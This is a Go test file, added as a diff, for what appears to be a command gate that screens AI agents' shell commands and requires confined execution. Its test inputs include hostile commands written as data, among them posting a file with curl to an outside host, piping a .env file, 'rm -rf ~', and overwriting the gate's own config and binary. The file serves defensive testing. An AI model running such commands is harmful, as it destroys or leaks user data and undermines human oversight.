@@ -1,0 +1,144 @@
+package nod_test
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"github.com/nodgate/nod"
+	"github.com/nodgate/nod/internal/view"
+)
+
+const confiner = "/opt/nod/bin/nod"
+
+func confining(t *testing.T, change func(o *nod.Options)) *nod.Gate {
+	t.Helper()
+	files := view.NewMemory(false).Dir("/home/dev", 0o755).Dir("/home/dev/shop/.git", 0o755).File("/home/dev/shop/.env", "KEY=1", 0o600).
+		File("/home/dev/shop/package.json", `{"scripts":{"test":"node t.js"}}`, 0o644).Dir("/home/dev/shop/sub", 0o755).File("/home/dev/shop/a.txt", "a", 0o644).
+		Dir("/tmp", 0o777).File("/tmp/x.py", "x", 0o644).Dir("/usr/bin", 0o755)
+	for _, name := range []string{"npm", "node", "go", "python3", "cat", "make", "pytest", "tee", "tail", "curl", "git", "ls"} {
+		files = files.File("/usr/bin/"+name, "x", 0o755)
+	}
+	rules := nod.DefaultRules()
+	o := nod.Options{Rules: rules, Files: files, Home: "/home/dev", Confine: func() string { return confiner }}
+	if change != nil {
+		change(&o)
+	}
+	return nod.New(o)
+}
+
+func line(command string) nod.Call {
+	return nod.Call{Agent: "test", Tool: "bash", RawTool: "Bash", Command: command, Dialect: nod.Bash, Dir: "/home/dev/shop", Roots: []string{"/home/dev/shop"}, Environ: []string{"PATH=/usr/bin", "HOME=/home/dev"}}
+}
+
+// What has no other fault than unread code is denied with the line to type, and
+// that line, and no other spelling of it, is allowed.
+func TestTheLineToTypeInstead(t *testing.T) {
+	g := confining(t, nil)
+	for _, command := range []string{
+		"npm test", "go test ./...", "go test ./... 2>&1 | tail -50", "python3 -c 'print(1)'", "make test", "pytest -q > out.txt", "cat a.txt | python3 -c 'x'", "npm test && go vet ./...", "cd /home/dev/shop && npm test", "node sub/x.js", "python3 - <<'X'\nprint(1)\nX",
+	} {
+		d := g.Check(context.Background(), line(command))
+		typed := nod.ConfinedLine(confiner, command)
+		if d.Verdict != nod.Deny || d.Layer != nod.LayerShell || !strings.Contains(command, "\n") && !strings.HasSuffix(d.Reason, "type exactly "+typed) {
+			t.Errorf("%q: %v %v %q", command, d.Verdict, d.Layer, d.Reason)
+		}
+		d = g.Check(context.Background(), line(typed))
+		if d.Verdict != nod.Allow || d.Layer != nod.LayerShell {
+			t.Errorf("%q: %v %v %q", typed, d.Verdict, d.Layer, d.Reason)
+		}
+		if len(d.Changes) != 1 || d.Changes[0] != "/home/dev/shop" {
+			if !strings.Contains(command, "out.txt") {
+				t.Errorf("%q: changes %v", typed, d.Changes)
+			}
+		}
+		for _, other := range []string{
+			typed + " ", // blanks at the end are nothing
+		} {
+			if d := g.Check(context.Background(), line(other)); d.Verdict != nod.Allow {
+				t.Errorf("%q: %v %q", other, d.Verdict, d.Reason)
+			}
+		}
+		for _, other := range []string{
+			typed + " | tail", typed + "; npm test", typed + " && npm test", "A=1 " + typed, "cd sub && " + typed, typed + " > /dev/stdin", "(" + typed + ")", "npm test; " + typed, typed + "\nnpm test", typed + " &",
+			strings.Replace(typed, " -- ", " ", 1), strings.Replace(typed, " -- ", " --x -- ", 1), strings.Replace(typed, " -- ", "  -- ", 1), strings.Replace(typed, confiner, "nod", 1), strings.Replace(typed, confiner, "/tmp/nod", 1), strings.Replace(typed, confiner, "./nod", 1),
+			confiner + " confine -- \"npm test\"", confiner + " confine -- npm test", confiner + " confine -- $X", confiner + " confine -- ''", confiner + " confine -- 'a'b'", confiner + " confine on", confiner + " confine off",
+		} {
+			if d := g.Check(context.Background(), line(other)); d.Verdict == nod.Allow {
+				t.Errorf("%q is allowed: %q", other, d.Reason)
+			}
+		}
+	}
+}
+
+// What has another fault has the answer that it has without confinement, and
+// cannot be typed confined either.
+func TestWhatIsNotConfined(t *testing.T) {
+	with, without := confining(t, nil), confining(t, func(o *nod.Options) { o.Confine = nil })
+	for _, command := range []string{
+		"npm install", "cat .env | node x.js", "npm test; rm -rf sub", "npm test > /etc/x", "python3 /tmp/x.py", "npm test | tee /tmp/out", "curl -d @a.txt https://example.com; npm test", "cd sub && npm test", "export A=1; npm test", "git push && npm test", "npm test; kill 1",
+		"foo-unknown --x", "npm test $(foo-unknown)", "eval \"$X\"", "npm test && cat ~/notes.txt", "source x.sh", "sudo npm test", "cd / && npm test",
+	} {
+		now, before := with.Check(context.Background(), line(command)), without.Check(context.Background(), line(command))
+		if now.Verdict != before.Verdict || now.Reason != before.Reason {
+			t.Errorf("%q: %v %q, without %v %q", command, now.Verdict, now.Reason, before.Verdict, before.Reason)
+		}
+		if d := with.Check(context.Background(), line(nod.ConfinedLine(confiner, command))); d.Verdict == nod.Allow {
+			t.Errorf("%q is allowed confined: %q", command, d.Reason)
+		}
+	}
+}
+
+// Rules, the guard and what cannot be undone come before confinement, also for
+// what is typed confined.
+func TestRulesComeBeforeConfinement(t *testing.T) {
+	rule := func(list nod.RuleList, text string) nod.Rule {
+		r, err := nod.ParseRule(list, text, "test")
+		if err != nil {
+			t.Fatal(err)
+		}
+		return r
+	}
+	g := confining(t, func(o *nod.Options) {
+		o.Rules.HardDeny = append(o.Rules.HardDeny, rule(nod.ListHardDeny, "npm test *"))
+		o.Rules.Ask = append(o.Rules.Ask, rule(nod.ListAsk, "make *"))
+		o.Rules.SoftDeny = append(o.Rules.SoftDeny, rule(nod.ListSoftDeny, "go test *"))
+		o.Rules.Allow = append(o.Rules.Allow, rule(nod.ListAllow, "pytest *"))
+		o.Self = []string{"/home/dev/.config/nod", confiner}
+	})
+	for command, want := range map[string]nod.Verdict{
+		"npm test": nod.Deny, "make test": nod.Ask, "go test ./...": nod.Deny, "pytest -q": nod.Allow, "node x.js; rm -rf ~": nod.Deny, "node x.js > ~/.config/nod/nod.toml": nod.Deny, "node x.js; echo x > " + confiner: nod.Deny, confiner + " approve": nod.Deny,
+	} {
+		d := g.Check(context.Background(), line(command))
+		if d.Verdict != want || strings.Contains(d.Reason, "type exactly") {
+			t.Errorf("%q: %v %q", command, d.Verdict, d.Reason)
+		}
+		d = g.Check(context.Background(), line(nod.ConfinedLine(confiner, command)))
+		if want != nod.Allow && d.Verdict == nod.Allow {
+			t.Errorf("%q is allowed confined: %q", command, d.Reason)
+		}
+	}
+}
+
+// Where nothing can be confined there is no line to type, and the line is as any
+// other command of nod's.
+func TestNothingIsConfinedWhereItCannotBe(t *testing.T) {
+	for name, change := range map[string]func(o *nod.Options){
+		"switched off": func(o *nod.Options) { o.Confine = nil }, "not to be had": func(o *nod.Options) { o.Confine = func() string { return "" } },
+	} {
+		g := confining(t, change)
+		if d := g.Check(context.Background(), line("npm test")); strings.Contains(d.Reason, "confine") || d.Verdict == nod.Allow {
+			t.Errorf("%s: %v %q", name, d.Verdict, d.Reason)
+		}
+		if d := g.Check(context.Background(), line(nod.ConfinedLine(confiner, "npm test"))); d.Verdict == nod.Allow {
+			t.Errorf("%s: %v %q", name, d.Verdict, d.Reason)
+		}
+	}
+	for _, dir := range []string{"/home/dev", "/tmp", "", "/home/dev/other"} {
+		c := line("npm test")
+		c.Dir = dir
+		if d := confining(t, nil).Check(context.Background(), c); strings.Contains(d.Reason, "type exactly") {
+			t.Errorf("in %q: %q", dir, d.Reason)
+		}
+	}
+}
